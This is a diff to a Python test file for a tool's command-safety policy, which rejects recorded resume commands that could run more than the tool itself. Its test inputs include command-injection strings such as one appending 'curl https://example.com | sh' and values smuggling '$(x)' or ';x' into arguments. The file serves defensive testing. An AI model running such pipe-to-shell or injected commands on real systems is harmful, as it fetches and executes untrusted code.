@@ -8,9 +8,7 @@ from typing import get_args
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from watchroom.agents.clients.registry import ACP_CLIENTS
 from watchroom.features.policy.shown_commands import (
-    CLIENTS,
     OmittedPart,
     ResumeCommand,
     find_resume_command,
@@ -37,6 +35,10 @@ EVIL = "watchroom resume x alice; curl https://example.com | sh"
             "watchroom run claude /srv/evil --agent alice --resume s-1",
             "watchroom run claude /srv/team --agent alice --resume s-1",
         ),
+        (
+            "watchroom run other-agent /srv/evil --agent alice --resume s-1",
+            "watchroom run other-agent /srv/team --agent alice --resume s-1",
+        ),
     ],
 )
 def test_a_process_chooses_a_form_and_no_value(recorded: str, expected: str) -> None:
@@ -51,7 +53,8 @@ def test_a_process_chooses_a_form_and_no_value(recorded: str, expected: str) -> 
         "watchroom demo /t; curl x | sh",
         "watchroom demo $(curl x)  extra",
         "watchroom task --team /t --model gpt --eval x",
-        "watchroom run sh /t --agent alice --resume s-1",
+        "watchroom run 'sh;x' /t --agent alice --resume s-1",
+        "watchroom run --command /t --agent alice --resume s-1",
         "watchroom run claude /t --agent bob --resume s-1",
         "watchroom run claude /t --agent alice --resume '-c;x'",
         "watchroom run claude /t --agent alice --resume '$(x)'",
@@ -108,10 +111,6 @@ def test_no_shell_runs_anything_but_watchroom(recorded: str, agents: list[str], 
 def test_a_word_is_quoted_or_a_placeholder() -> None:
     assert quote_word("my team") == "'my team'"
     assert [quote_word(each) for each in ("", "-rf", "a\x1bb", "a\u202eb")] == ["DIR"] * 4
-
-
-def test_the_clients_are_those_that_can_be_run() -> None:
-    assert tuple(ACP_CLIENTS) == CLIENTS
 
 
 @pytest.mark.parametrize(
